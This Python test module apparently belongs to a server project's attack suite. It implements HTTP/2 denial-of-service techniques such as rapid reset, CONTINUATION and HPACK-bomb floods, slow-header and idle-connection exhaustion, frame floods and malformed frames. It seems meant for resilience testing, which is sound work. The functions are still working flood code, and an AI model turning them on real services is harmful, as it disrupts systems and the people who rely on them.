"""Attacks by frames: they need no valid message, and work on every service's port."""

from __future__ import annotations

import contextlib
import itertools
import random
import time
from collections import deque
from collections.abc import Iterator

from tests.attacks.http2 import (
    CANCEL,
    CONTINUATION,
    DATA,
    DEFAULT_WINDOW,
    FRAME_HEAD_BYTES,
    GOAWAY,
    INDEXED_CALL,
    MAX_FRAME_BYTES,
    MAX_STREAM,
    MAX_WINDOW,
    PING,
    PRIORITY,
    RST_STREAM,
    Attempt,
    ClosedError,
    Connection,
    literal,
    numbered,
    request_block,
    settings_frame,
    window_update,
)
from tests.raw_http2 import END_HEADERS, END_STREAM, HEADERS, PREFACE, frame

BAD_PATHS_PER_S = 15
NUM_RESET_CONNECTIONS = 2
NUM_STREAMS = 40_000
# Where the server permits few streams on each.
MAX_CONNECTIONS = 2_000
NUM_SLOW, SLOW_BYTE_S = 300, 1.0
NUM_IDLE = 2_000
NUM_SILENT = 500
# Frames of one block, which is sent at once.
BLOCK_FRAMES = 2_000
# Streams that one connection opens before it is opened anew; ids end at 2^31.
LAST_STREAM = MAX_STREAM - 2 * BLOCK_FRAMES
TRICKLE_BYTES = 1 << 20
HUGE_HEADER_BYTES = 1 << 20


def bad_path(attempt: Attempt) -> None:
    """A `:path` that is no UTF-8, 15 a second, each on a new connection."""
    call = frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(b"/\xff\xfe\x80/" + attempt.target.path[1:]))
    # Closed at once, a connection could be reset before the server has read the call.
    recent: deque[Connection] = deque()
    began_s = time.monotonic()
    try:
        for number in itertools.count():
            attempt.sleep(began_s + number / BAD_PATHS_PER_S - time.monotonic())
            if connection := attempt.try_open():
                recent.append(connection)
                _sent_once(connection, call, wait_s=0.0)
            if len(recent) > BAD_PATHS_PER_S:
                recent.popleft().close()
    finally:
        for connection in recent:
            connection.close()


def rapid_reset(attempt: Attempt) -> None:
    """HEADERS and RST_STREAM of a valid call, as fast as it goes, on two connections."""
    attempt.swarm(NUM_RESET_CONNECTIONS, _reset_step)


def _reset_step(connection: Connection) -> None:
    if connection.next_stream == 1:
        first = request_block(connection.attempt.target.path, is_indexed=True)
        connection.open_stream(first)
        connection.send(frame(RST_STREAM, 0, 1, CANCEL))
    call = frame(HEADERS, END_HEADERS, 1, INDEXED_CALL)
    pairs = numbered(
        call + frame(RST_STREAM, 0, 1, CANCEL), (5, len(call) + 5), connection.next_stream, BLOCK_FRAMES // 2
    )
    connection.next_stream += BLOCK_FRAMES
    connection.flood([(pairs, BLOCK_FRAMES)])


def headers_only(attempt: Attempt) -> None:
    """40,000 streams with headers and no message, as many on each connection as the server permits."""
    with attempt.open() as probe:
        most = max(1, min(probe.max_streams, NUM_STREAMS))
    attempt.tally["permitted streams"] = most
    attempt.swarm(
        min(MAX_CONNECTIONS, -(-NUM_STREAMS // most)), lambda connection: _open_all(connection, most), pause_s=0.1
    )


def _open_all(connection: Connection, most: int) -> None:
    if connection.stage == 0:
        connection.stage = 1
        connection.open_stream(request_block(connection.attempt.target.path, is_indexed=True))
        # One more than permitted would be refused alone; the limit may have been lowered meanwhile.
        for first in range(3, 2 * most, 2 * BLOCK_FRAMES):
            count = min(BLOCK_FRAMES, (2 * most - first + 1) // 2)
            block = numbered(frame(HEADERS, END_HEADERS, 1, INDEXED_CALL), (5,), first, count)
            connection.flood([(block, count)])
            connection.tally["streams"] += count
    connection.drop_input()


def slow_headers(attempt: Attempt) -> None:
    """300 connections that send one byte of a HEADERS frame a second."""
    headers = frame(HEADERS, END_HEADERS, 1, request_block(attempt.target.path))

    def step(connection: Connection) -> None:
        connection.take()
        if time.monotonic() >= connection.next_s and connection.stage < len(headers):
            connection.next_s = time.monotonic() + SLOW_BYTE_S
            connection.send(headers[connection.stage : connection.stage + 1])
            connection.stage += 1

    attempt.swarm(NUM_SLOW, step, pause_s=0.05)


def idle_tcp(attempt: Attempt) -> None:
    """2,000 connections that say nothing, not even the preface."""
    attempt.swarm(NUM_IDLE, Connection.drop_input, greets=False, pause_s=0.2)


def preface_only(attempt: Attempt) -> None:
    """500 connections with preface and SETTINGS, and silence."""
    attempt.swarm(NUM_SILENT, Connection.take, pause_s=0.2)


def continuations(attempt: Attempt) -> None:
    """HEADERS without END_HEADERS, and CONTINUATION frames without end."""
    block = literal(b"x-more", b"x" * 1000) * 16
    more = frame(CONTINUATION, 0, 1, block[:MAX_FRAME_BYTES]) * 32

    def body(connection: Connection) -> None:
        connection.send(frame(HEADERS, 0, 1, request_block(attempt.target.path)))
        connection.flood(itertools.repeat((more, 32)))

    attempt.repeat(body)


def tiny_continuations(attempt: Attempt) -> None:
    """The same with CONTINUATION frames that have no byte."""
    more = frame(CONTINUATION, 0, 1) * BLOCK_FRAMES

    def body(connection: Connection) -> None:
        connection.send(frame(HEADERS, 0, 1, request_block(attempt.target.path)))
        connection.flood(itertools.repeat((more, BLOCK_FRAMES)))

    attempt.repeat(body)


def settings(attempt: Attempt) -> None:
    """SETTINGS as fast as it goes; their acknowledgements are not read."""
    _flood(attempt, settings_frame({4: DEFAULT_WINDOW}), reads=False)


def pings(attempt: Attempt) -> None:
    """PING as fast as it goes; the answers are not read."""
    _flood(attempt, frame(PING, 0, 0, b"8 bytes."), reads=False)


def empty_data(attempt: Attempt) -> None:
    """DATA frames without a byte on one open stream."""

    def body(connection: Connection) -> None:
        connection.open_stream(request_block(attempt.target.path))
        connection.flood(itertools.repeat((frame(DATA, 0, 1) * BLOCK_FRAMES, BLOCK_FRAMES)))

    attempt.repeat(body)


def small_windows(attempt: Attempt) -> None:
    """WINDOW_UPDATE with an increment of 1, as fast as it goes."""
    _flood(attempt, window_update(0, 1))


def window_overflow(attempt: Attempt) -> None:
    """WINDOW_UPDATE beyond 2^31 - 1, on the connection or on a stream, each time on a new connection."""

    def body(connection: Connection) -> None:
        stream = connection.open_stream(request_block(attempt.target.path)) if random.random() < 0.5 else 0
        connection.send(window_update(stream, MAX_WINDOW) * 2)
        connection.tally["frames"] += 2
        connection.wait(0.02)

    attempt.repeat(body)


def priorities(attempt: Attempt) -> None:
    """PRIORITY for streams that nobody has opened, each dependent on another."""

    def blocks() -> Iterator[tuple[bytes, int]]:
        for start in itertools.count(1, 2 * BLOCK_FRAMES):
            first = start % LAST_STREAM | 1
            template = frame(PRIORITY, 0, 1, (0).to_bytes(4, "big") + b"\x10")
            yield numbered(template, (5,), first, BLOCK_FRAMES), BLOCK_FRAMES

    attempt.repeat(lambda connection: connection.flood(blocks()))


def hpack_bomb(attempt: Attempt) -> None:
    """An entry of 4,000 bytes in the dynamic table, and header blocks that name it 16,000 times each."""
    entry = literal(b"x-bomb", b"b" * 3_900, is_indexed=True)

    def body(connection: Connection) -> None:
        connection.open_stream(b"\x83\x86" + literal(b":path", attempt.target.path) + entry, ends=True)
        bomb = b"\x83\x86" + literal(b":path", attempt.target.path) + b"\xbe" * 16_000
        call = frame(HEADERS, END_HEADERS | END_STREAM, 1, bomb)
        while connection.next_stream < LAST_STREAM:
            block = numbered(call, (5,), connection.next_stream, 16)
            connection.next_stream += 32
            connection.flood([(block, 16)])

    attempt.repeat(body)


def huge_header(attempt: Attempt) -> None:
    """Header values of a MiB, over HEADERS and CONTINUATION frames."""
    block = request_block(attempt.target.path, [(b"x-huge", b"h" * HUGE_HEADER_BYTES)])
    parts = [block[start : start + MAX_FRAME_BYTES] for start in range(0, len(block), MAX_FRAME_BYTES)]

    def body(connection: Connection) -> None:
        while True:
            stream = connection.next_stream
            connection.next_stream += 2
            frames = [frame(HEADERS, 0, stream, parts[0])]
            frames += [frame(CONTINUATION, 0, stream, part) for part in parts[1:-1]]
            frames += [frame(CONTINUATION, END_HEADERS, stream, parts[-1])]
            connection.flood([(b"".join(frames), len(frames))])

    attempt.repeat(body)


def trickle(attempt: Attempt) -> None:
    """A message of a MiB, one byte per DATA frame, on 50 streams at once."""
    head = b"\0" + TRICKLE_BYTES.to_bytes(4, "big")

    def body(connection: Connection) -> None:
        block = request_block(attempt.target.path)
        streams = [connection.open_stream(block) for _ in range(50)]
        for stream in streams:
            connection.send(frame(DATA, 0, stream, head))
        # No stream's window is overdrawn: each gets less than its first one.
        data = b"".join(frame(DATA, 0, stream, b"\n") for stream in streams)
        turn = 20 * len(streams)
        for _ in range(connection.initial_window // 20 - 1):
            while connection.window < turn:
                connection.wait(0.1)
            connection.send(data * 20)
            connection.tally["frames"] += turn
            connection.window -= turn
            connection.take()

    attempt.repeat(body)


def reconnects(attempt: Attempt) -> None:
    """Connections opened and closed as fast as it goes, every second one in the middle of a call."""
    call = frame(HEADERS, END_HEADERS, 1, request_block(attempt.target.path))
    for number in itertools.count():
        connection = attempt.try_open(greets=False)
        if connection is not None:
            with connection:
                _sent_once(connection, PREFACE + settings_frame({}) + call * (number % 2), wait_s=0.0)


def garbage(attempt: Attempt) -> None:
    """After the preface: random bytes, frames of wrong sizes, and frames where they may not be."""
    chance = random.Random(0)
    wrong = [
        frame(PING, 0, 0, b"7 bytes"),
        frame(PING, 0, 1, b"8 bytes."),
        frame(RST_STREAM, 0, 0, CANCEL),
        frame(RST_STREAM, 0, 7, CANCEL),
        frame(4, 0, 0, b"five!"),
        frame(4, 0, 3, b""),
        frame(DATA, 0, 0, b"x"),
        frame(HEADERS, END_HEADERS, 2, request_block(attempt.target.path)),
        frame(HEADERS, END_HEADERS, 1, b"\xff" * 40),
        frame(CONTINUATION, 0, 1, b"x"),
        frame(window_update(0, 1)[3], 0, 0, (0).to_bytes(4, "big")),
        (MAX_FRAME_BYTES * 900).to_bytes(3, "big") + bytes((DATA, 0, 0, 0, 0, 1)) + b"x" * 4096,
        frame(5, END_HEADERS, 1, b"\0\0\0\2"),
        frame(99, 0xFF, 1, b"unknown"),
    ]

    def body(connection: Connection) -> None:
        data = chance.choice([*wrong, chance.randbytes(chance.randrange(1, 4096))])
        _sent_once(connection, data, wait_s=0.02)

    attempt.repeat(body)


def goaway(attempt: Attempt) -> None:
    """GOAWAY, and calls afterwards on the same connection."""

    def body(connection: Connection) -> None:
        connection.open_stream(request_block(attempt.target.path, is_indexed=True))
        while connection.next_stream < LAST_STREAM:
            last = frame(GOAWAY, 0, 0, bytes(8))
            calls = numbered(frame(HEADERS, END_HEADERS, 1, INDEXED_CALL), (5,), connection.next_stream, 20)
            resets = numbered(frame(RST_STREAM, 0, 1, CANCEL), (5,), connection.next_stream, 20)
            connection.next_stream += 40
            connection.flood([(last + calls + resets, 41)])

    attempt.repeat(body)


def trailers(attempt: Attempt) -> None:
    """Streams that the client ends with trailers in place of a message, as fast as the server permits."""

    def step(connection: Connection) -> None:
        if connection.next_stream == 1:
            connection.open_stream(request_block(attempt.target.path, is_indexed=True))
        first = frame(HEADERS, END_HEADERS, 1, INDEXED_CALL)
        last = frame(HEADERS, END_HEADERS | END_STREAM, 1, literal(b"x-trailer", b"t" * 100))
        data = numbered(first + last, (5, len(first) + 5), connection.next_stream, 20)
        connection.next_stream += 40
        connection.flood([(data, 40)])

    attempt.swarm(2, step, pause_s=0.005)


def metadata(attempt: Attempt) -> None:
    """Calls with 1,000 keys of metadata each."""
    block = request_block(attempt.target.path, [(b"x-key-of-the-client-%04d" % number, b"v") for number in range(1000)])
    assert len(block) > MAX_FRAME_BYTES
    parts = block[:MAX_FRAME_BYTES], block[MAX_FRAME_BYTES:]
    call = frame(HEADERS, END_STREAM, 1, parts[0]) + frame(CONTINUATION, END_HEADERS, 1, parts[1])
    second = FRAME_HEAD_BYTES + len(parts[0]) + 5

    def body(connection: Connection) -> None:
        while connection.next_stream < LAST_STREAM:
            data = numbered(call, (5, second), connection.next_stream, 10)
            connection.next_stream += 20
            connection.flood([(data, 20)])

    attempt.repeat(body)


def _flood(attempt: Attempt, one: bytes, *, reads: bool = True) -> None:
    """The same frame as fast as it goes, on one connection after the other."""
    block = one * BLOCK_FRAMES
    attempt.repeat(lambda connection: connection.flood(itertools.repeat((block, BLOCK_FRAMES)), reads=reads))


def _sent_once(connection: Connection, data: bytes, wait_s: float) -> None:
    """Send something and wait for a moment, whatever the server does about it."""
    with contextlib.suppress(ClosedError):
        connection.send(data)
        connection.tally["frames"] += 1
        if wait_s:
            connection.wait(wait_s)
